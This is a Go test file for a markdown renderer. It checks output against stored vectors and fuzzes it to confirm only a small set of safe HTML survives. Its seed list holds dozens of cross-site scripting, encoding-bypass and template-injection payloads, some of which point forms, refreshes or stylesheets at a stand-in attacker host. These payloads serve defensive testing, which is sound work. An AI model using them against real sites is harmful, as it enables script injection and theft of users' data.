package templates

import (
	"encoding/json"
	"os"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// vector is a line of testdata/markdown.json: what the server and the browser
// must both make of a text.
type vector struct {
	Name string `json:"name"`
	In   string `json:"in"`
	Out  string `json:"out"`
}

func markdownVectors(t *testing.T) []vector {
	t.Helper()
	b, err := os.ReadFile("testdata/markdown.json")
	if err != nil {
		t.Fatal(err)
	}
	var out []vector
	if err := json.Unmarshal(b, &out); err != nil {
		t.Fatal(err)
	}
	return out
}

func TestMarkdown_Vectors(t *testing.T) {
	t.Parallel()
	m := newMarkdown()
	for _, v := range markdownVectors(t) {
		t.Run(v.Name, func(t *testing.T) {
			t.Parallel()
			got, err := m.render(v.In)
			if err != nil {
				t.Fatal(err)
			}
			if string(got) != v.Out {
				t.Errorf("render(%q)\n got %s\nwant %s", v.In, got, v.Out)
			}
		})
	}
}

func FuzzMarkdown_OnlyTheSubset(f *testing.F) {
	for _, s := range hostile {
		f.Add(s)
	}
	m := newMarkdown()
	f.Fuzz(func(t *testing.T, s string) {
		out, err := m.render(s)
		if err != nil {
			t.Fatal(err)
		}
		assertSubset(t, s, string(out))
	})
}

// assertSubset fails when rendered text has an element or attribute that the
// subset does not know.
func assertSubset(t *testing.T, in, out string) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(out))
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			return
		}
		if tt != html.StartTagToken && tt != html.SelfClosingTagToken {
			continue
		}
		tok := z.Token()
		switch tok.Data {
		case "p", "br", "em", "strong", "code", "pre":
			if len(tok.Attr) > 0 {
				t.Fatalf("%q became %q: <%s> has attributes", in, out, tok.Data)
			}
		case "a":
			for _, a := range tok.Attr {
				safe := a.Key == "href" && (strings.HasPrefix(a.Val, "http://") || strings.HasPrefix(a.Val, "https://")) ||
					a.Key == "rel" && a.Val == "nofollow noopener" || a.Key == "target" && a.Val == "_blank"
				if !safe {
					t.Fatalf("%q became %q: attribute %s=%q", in, out, a.Key, a.Val)
				}
			}
		default:
			t.Fatalf("%q became %q: element <%s>", in, out, tok.Data)
		}
	}
}

// hostile are texts that must come out as text, whatever field they stand in.
var hostile = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`' onmouseover='alert(1)`,
	`</title><script>alert(1)</script>`,
	`</textarea><svg onload=alert(1)>`,
	`javascript:alert(1)`,
	`[x](javascript:alert(1))`,
	`[x](https://a"onmouseover="alert(1))`,
	`https://a.b/"onclick=alert(1)`,
	`{{.}} ${alert(1)}`,
	"</script><script>alert(1)</script>",
	"<!--<script>",
	"\u2028alert(1)\u2029",
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	"`</code><script>alert(1)</script>`",
	"```\n</code></pre><script>alert(1)</script>\n```",
	`<a href="jav&#x09;ascript:alert(1)">x</a>`,
	`<style>@import 'http://x'</style>`,
	`<base href=//x>`,
	`<iframe srcdoc="<script>alert(1)</script>">`,
	`<img src=x onerror=alert(1)//`,
	`<svg/onload=alert(1)>`,
	`<svg><script href="data:,alert(1)"/></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<details open ontoggle=alert(1)>`,
	`<input autofocus onfocus=alert(1)>`,
	`<body onload=alert(1)>`,
	`<object data="javascript:alert(1)">`,
	`<embed src="data:text/html,<script>alert(1)</script>">`,
	`<form action="https://evil.example"><input name=_csrf><button>go`,
	`</form><form action=//evil.example>`,
	`<meta http-equiv=refresh content="0;url=//evil.example">`,
	`<link rel=stylesheet href=//evil.example>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<template><script>alert(1)</script></template>`,
	`<plaintext>`,
	`<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
	`]]><script>alert(1)</script>`,
	`--><script>alert(1)</script>`,
	`" autofocus onfocus="alert(1)" x="`,
	`" style="position:fixed;inset:0" x="`,
	`" formaction="javascript:alert(1)" x="`,
	"` onmouseover=alert(1) x=`",
	"\" \nonclick=alert(1) x=",
	`\u003cscript\u003ealert(1)\u003c/script\u003e`,
	`+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
	"<\u00adscript>alert(1)</script>",
	`<a href=" &#14; javascript:alert(1)">x</a>`,
	`<a href="&#x6a;avascript:alert(1)">x</a>`,
	`{{constructor.constructor('alert(1)')()}} <%= 7*7 %> #{7*7} @(7*7)`,
	`[x](https://a.b "onmouseover=alert(1)")`,
	`![x](https://a.b/x.png"onerror="alert(1))`,
	`[<img src=x onerror=alert(1)>](https://a.b)`,
	`[x]( javascript:alert(1))`,
	`[x](<javascript:alert(1)>)`,
	`<javascript:alert(1)>`,
	"[x]: https://a.b \"'><script>alert(1)</script>\"",
	"**<b>** __<i>__ *`</code>`* ~~<s>~~",
	"```\"><script>alert(1)</script>\nx\n```",
	strings.Repeat("[", 300) + "](https://a.b)",
	strings.Repeat("*", 500) + "x" + strings.Repeat("_", 500),
	strings.Repeat("<", 500),
}

func TestMarkdown_PlainHasNoMarks(t *testing.T) {
	t.Parallel()
	md := newMarkdown()
	for in, want := range map[string]string{
		"opens at **21:40**, *sharp*":      "opens at 21:40, sharp",
		"run\n```\na < b && c\n```\nnow":   "run a < b && c now",
		"one\ntwo\n\n[three](https://x.y)": "one two three",
		"<b>not bold</b> & `code`":         "<b>not bold</b> & code",
	} {
		if got, err := md.plain(in); got != want || err != nil {
			t.Errorf("%q: %q, %v, want %q", in, got, err, want)
		}
	}
}
